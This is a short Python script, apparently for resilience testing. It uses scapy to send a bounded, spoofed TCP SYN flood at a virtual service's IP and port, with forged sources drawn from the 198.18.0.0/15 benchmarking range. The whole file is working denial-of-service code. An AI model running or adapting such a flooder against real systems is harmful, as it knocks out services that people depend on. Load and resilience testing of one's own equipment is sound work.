#!/usr/bin/env python3
"""A spoofed SYN flood at a virtual service (scapy, layer 2, on --iface):
--count SYNs from random sources in 198.18.0.0/15 (the benchmarking range,
never a real host) and random ports to --vip:--port. Bounded by --count and
--seconds. Prints how many frames it sent."""

import argparse
import random
import time

from scapy.all import IP, TCP, Ether, conf, sendp

ap = argparse.ArgumentParser()
ap.add_argument("--iface", default="eth0")
ap.add_argument("--mac", required=True, help="appliance MAC")
ap.add_argument("--vip", required=True)
ap.add_argument("--port", type=int, default=104)
ap.add_argument("--count", type=int, default=20000)
ap.add_argument("--seconds", type=float, default=60.0)
args = ap.parse_args()
conf.verb = 0

rng = random.Random(7)
sent = 0
end = time.monotonic() + args.seconds
batch = 500
sock = conf.L2socket(iface=args.iface)
while sent < args.count and time.monotonic() < end:
    frames = [
        Ether(dst=args.mac)
        / IP(src="198.%d.%d.%d" % (18 + rng.randrange(2), rng.randrange(256), rng.randrange(1, 255)), dst=args.vip)
        / TCP(sport=rng.randrange(1024, 65535), dport=args.port, flags="S", seq=rng.randrange(1 << 32),
              options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
        for _ in range(min(batch, args.count - sent))
    ]
    for f in frames:
        sock.send(f)
    sent += len(frames)
sock.close()
print("sent", sent)
